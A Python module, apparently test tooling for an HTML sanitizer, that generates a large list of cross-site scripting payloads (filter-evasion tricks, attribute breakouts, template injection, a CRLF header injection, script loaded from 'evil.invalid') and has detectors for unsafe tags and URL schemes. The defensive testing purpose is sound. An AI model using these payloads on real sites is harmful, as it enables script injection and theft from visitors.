"""Markup that wants to run in a visitor's browser, and the eye that finds it in a page."""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterator
from itertools import product

import lxml.html

RUN = "xss()"
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "details open",
    "iframe",
    "a href=x",
    "p",
    "b",
    "math",
    "object data=x",
    "marquee",
)
_HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "ONCLICK",
    "onanimationstart",
    "onpointerenter",
    "onwheel",
)
_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "\tjavascript:{}", "java\tscript:{}", "java\nscript:{}", "java\0script:{}", "&#106;avascript:{}",
    "&#x6A;avascript:{}", "&#0000106avascript:{}", "java&Tab;script:{}", "java&NewLine;script:{}", "javascript&colon;{}", "javascript&#58;{}", "\x01javascript:{}",
    "vbscript:{}", "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==", "javascript://%0a{}", "javascript:/*--></title>*/{}",
    "feed:javascript:{}", "view-source:javascript:{}", "javas\u00adcript:{}", "ｊavascript:{}", "http://a/\" onmouseover=\"{}", "http://a/' onmouseover='{}",
    "//a/><script>{}</script>", "http://javascript:{}@a/", "jar:javascript:{}", "blob:{}", "file:///etc/passwd", "mhtml:javascript:{}", "livescript:{}", "\u2028javascript:{}",
)  # fmt: skip
_PLACES = ("<a href={q}{u}{q}>x</a>", "<img src={q}{u}{q}>", "<q cite={q}{u}{q}>x</q>", "<form action={q}{u}{q}><button>x</button></form>", "<iframe src={q}{u}{q}></iframe>",
           "<svg><a xlink:href={q}{u}{q}><text y=9>x</text></a></svg>", "<math href={q}{u}{q}>x</math>", "<base href={q}{u}{q}>", "<object data={q}{u}{q}></object>")  # fmt: skip
_OTHERS = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script src=//evil.invalid/x.js></script>", "<script\n>{}</script\n>", "<scr<script>ipt>{}</scr</script>ipt>",
    "<<script>{}//<</script>", "<script/x>{}</script>", "<script>{}", "<!--<script>{}</script>-->", "<!--><script>{}</script>", "<!--!><script>{}</script>",
    "<!-- --!><script>{}</script>", "<![CDATA[<script>{}</script>]]>", "]]><script>{}</script>", "<?x <script>{}</script>?>", "<!x ><script>{}</script>",
    "<style>@import '//evil.invalid'</style>", "<style>*{{x:expression({})}}</style>", "<p style=x:expression({})>x</p>", "<p style=\"background:url(javascript:{})\">x</p>",
    "<link rel=stylesheet href=//evil.invalid>", "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<svg><script>{}</script></svg>",
    "<svg><style><img src=x onerror={}></style></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:{}>",
    "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>", "<math><mtext><table><mglyph><style><img src=x onerror={}></style>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={}></annotation-xml></math>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<textarea><img title=\"</textarea><img src=x onerror={}>\">", "<title><img title=\"</title><img src=x onerror={}>\">", "<xmp><img title=\"</xmp><img src=x onerror={}>\">",
    "<template><script>{}</script></template>", "<select><noembed></select><script x='a@b'a>\n{}</script x>", "<table background=javascript:{}>", "<isindex action=javascript:{}>",
    "<a href=x title='\"><img src=x onerror={}>'>x</a>", "<b title=`><img src=x onerror={}>`>x</b>", "<a title='a&gt;<img src=x onerror={}>'>x</a>", "<img \"\"\"><script>{}</script>\">",
    "<img src=x:x onerror\n=\n{}>", "<img/src=x/onerror={}>", "<img\x0csrc=x\x0conerror={}>", "<img src=x onerror\x00={}>", "<img src=x on\x00error={}>", "<\x00img src=x onerror={}>",
    "<img src=x \x0bonerror={}>", "<img src='x'onerror={}>", "<img src=x onerror=&#120;&#115;&#115;&#40;&#41;>", "\"><img src=x onerror={}>", "'><img src=x onerror={}>", "--><img src=x onerror={}>",
    "\" onmouseover=\"{}", "' autofocus onfocus='{}", "&lt;script&gt;{}&lt;/script&gt;", "&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;", "%3Cscript%3E{}%3C/script%3E", "\\u003cscript\\u003e{}",
    "\\x3cscript\\x3e{}", "+ADw-script+AD4-{}+ADw-/script+AD4-", "\u00bcscript\u00be{}\u00bc/script\u00be", "＜script＞{}＜/script＞", "<a href=\"http://a/?x='onmouseover={}\">x</a>",
    "http://a/\"onmouseover={}//", "http://a.example/<img src=x onerror={}>", "www.a.example/\"onmouseover=\"{}", "a@b.example\"onmouseover=\"{}", "ftp.a.example'onclick='{}",
    "[caption width=1 caption=\"<img src=x onerror={}>\"]<img src=x>[/caption]", "[caption width='1\" onmouseover=\"{}']x[/caption]", "[video src=\"javascript:{}\"]", "[audio src='x\" onerror=\"{}']",
    "[embed]javascript:{}[/embed]", "[embed]http://a/\" onmouseover=\"{}[/embed]", "[gallery ids='\"><script>{}</script>']", "[[<script>{}</script>]]", "<a href=[caption]javascript:{}[/caption]>x</a>",
    "<!-- wp:html --><script>{}</script><!-- /wp:html -->", "<!-- wp:x {{\"a\":\"--><script>{}</script>\"}} /-->", ":-)<img src=x onerror={}>", "&#<script>{}</script>;", "&<script>{};</script>",
    "<pre><script>{}</script></pre>", "<code><img src=x onerror={}></code>", "<pre title='</pre><script>{}</script>'>x", "<p>x<script>{}</script>\n\ny</p>", "<blockquote cite='javascript:{}'>x</blockquote>",
    "<del datetime='\"><script>{}</script>'>x</del>", "<a href='x' rel='\"><script>{}</script>'>x</a>", "<acronym title='</acronym><script>{}</script>'>x", "<q cite=\"java&#10;script:{}\">x</q>",
    "<span class='\" onclick=\"{}'>x</span>", "<a data-x='<script>{}</script>' href=x>x</a>", "<img srcset='x onerror={}'>", "<embed src=javascript:{}>", "<frameset onload={}>", "<body background=javascript:{}>",
    "<button formaction=javascript:{}>x</button>", "<input type=image formaction=javascript:{} src=x>", "<video><source onerror={}></video>", "<video poster=javascript:{}>", "<portal src=javascript:{}>",
    "<a ping=javascript:{} href=x>x</a>", "<x contenteditable onblur={}>x", "<style><a title=\"</style><script>{}</script>\">", "<iframe srcdoc='<script>{}</script>'></iframe>", "\u202e<script>{}</script>",
)  # fmt: skip

_BREAKOUTS = (
    "\" onmouseover=\"{}\" x=\"", "' onfocus='{}' autofocus x='", "` onclick=`{}`", " autofocus onfocus={} x=", "\"><b onclick={}>x</b>", "'><b onclick={}>x</b>", "\"/><svg/onload={}>",
    "\" formaction=\"javascript:{}", "\" accesskey=x onclick=\"{}", "\" style=\"animation-name:x\" onanimationstart=\"{}",
    "</textarea><img src=x:x onerror={}>", "</title><script>{}</script>", "</script><script>{}</script>", "</style><script>{}</script>", "</option></select><img src=x:x onerror={}>",
    "</td></tr></tbody></table><script>{}</script>", "</form><form action=javascript:{}><button id=x>x</button>", "</a><a href=javascript:{}>x</a>", "</summary></details><img src=x:x onerror={}>",
    "</p></div></main></body></html><script>{}</script>", "</label><img src=x:x onerror={}>", "</svg><img src=x:x onerror={}>", "</text></svg><script>{}</script>", "</legend></fieldset><script>{}</script>",
    "{{{{1234*1234}}}}", "{{% if 1 %}}{{{{1234*1234}}}}{{% endif %}}", "${{1234*1234}}", "#{{1234*1234}}", "<%= 1234*1234 %>", "{{{{ ''.__class__.__mro__ }}}}", "{{{{constructor.constructor('{}')()}}}}", "%(ask)s %s %d {{0}} {{ask}}",
    "<svg></p><style><a id=\"</style><img src=x:x onerror={}>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x:x onerror={}&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x:x onerror={}>", "<math><mi><table><tr><td><style><img src=x:x onerror={}></style>", "<svg><![CDATA[><img src=x:x onerror={}>]]></svg>",
    "<p id=\"&lt;/p&gt;&lt;img src=x:x onerror={}&gt;\">", "&lt;img src=x:x onerror={}&gt;", "&amp;lt;img src=x:x onerror={}&amp;gt;", "&#60;img src=x:x onerror={}&#62;", "&quot; onmouseover=&quot;{}", "&#34;&#62;&#60;script&#62;{}&#60;/script&#62;",
    "a\0<script>{}</script>", "<scr\0ipt>{}</scr\0ipt>", "\"\0 onmouseover=\"{}", "\x1b]0;x\x07<img src=x:x onerror={}>", "\u2028<img src=x:x onerror={}>\u2029", "\ufeff<img src=x:x onerror={}>", "\ufffe\uffff<script>{}</script>",
    "\\\"><img src=x:x onerror={}>", "\\'-{}-\\'", "'-{}-'", "\";{}//", "\u202e<img src=x:x onerror={}>\u202c", "<img src=x:x\ronerror={}>", "\r\n\r\n<script>{}</script>", "\r\nSet-Cookie: a=b\r\n",
)  # fmt: skip
"""What leaves an attribute, an element, a script or a template that a stored text is written into."""

_IGNORED = re.compile("^[\0- ]+|[\t\n\r]")
"""What browsers leave out of an address (URL standard, basic URL parser)."""
_UNSAFE_TAGS = frozenset(
    "script style iframe frame frameset object embed svg math base link meta form input button textarea select template noscript xmp title portal applet marquee".split()
)
_URLS = (
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "xlink:href",
    "ping",
    "srcset",
    "longdesc",
    "dynsrc",
    "lowsrc",
)
_SCHEME = re.compile("[a-z][a-z0-9+.-]*:")
_SAFE = ("http:", "feed:", "https:", "ftp:", "ftps:", "mailto:", "news:", "irc:", "sms:", "tel:", "xmpp:")


def payloads() -> list[str]:
    """Some hundred of them, each once."""
    found = [other.format(RUN) for other in _OTHERS]
    found += [f"<{tag} {handler}={quote}{RUN}{quote}>" for tag, handler, quote in product(_TAGS, _HANDLERS, ("", '"'))]
    found += [place.format(q='"', u=scheme.format(RUN)) for place, scheme in product(_PLACES, _SCHEMES)]
    found += [place.format(q="'", u=scheme.format(RUN)) for place, scheme in product(_PLACES[:2], _SCHEMES)]
    found += [scheme.format(RUN) for scheme in _SCHEMES]
    return list(dict.fromkeys(found))


def field_payloads() -> list[str]:
    """Those that a field of a form or a cell of a list may hold: each once, and those that leave the place they stand in."""
    found = [text.format(RUN) for text in (*_BREAKOUTS, *_OTHERS, *_SCHEMES)]
    found += [place.format(q='"', u=_SCHEMES[0].format(RUN)) for place in _PLACES]
    found += [f"<{tag} {handler}={RUN}>" for tag, handler in zip(_TAGS, _HANDLERS * 2, strict=False)]
    return list(dict.fromkeys(found))


RUNNING = frozenset(
    (
        "script",
        "style",
        "iframe",
        "frame",
        "frameset",
        "embed",
        "svg",
        "math",
        "base",
        "link",
        "template",
        "applet",
        "portal",
    )
)
"""Elements that not even the text of a post may have."""


def tags(page: bytes) -> Counter[str]:
    """How many elements of each dangerous kind a page has."""
    found = Counter(str(element.tag).lower() for element in lxml.html.document_fromstring(page).iter())
    return Counter({name: number for name, number in found.items() if name in _UNSAFE_TAGS})


def dangers(page: bytes) -> Iterator[str]:
    """Attributes of a page that would run or style something."""
    for element in lxml.html.document_fromstring(page).iter():
        for name, value in element.attrib.items():
            if name.lower().startswith("on") or name.lower() in ("style", "srcdoc"):
                yield f"<{element.tag} {name}={value!r}>"
            if name.lower() in _URLS and is_unsafe(value):
                yield f"<{element.tag} {name}={value!r}>"


def is_unsafe(url: str) -> bool:
    """Whether a browser might take an address for one of a scheme that runs something."""
    found = _SCHEME.match(_IGNORED.sub("", url).lower())
    return found is not None and found[0] not in _SAFE


def as_page(fragment: str) -> bytes:
    """A fragment as a feed's reader may show it."""
    return f"<!DOCTYPE html><meta charset=utf-8><div>{fragment}</div>".encode("utf-8", "replace")
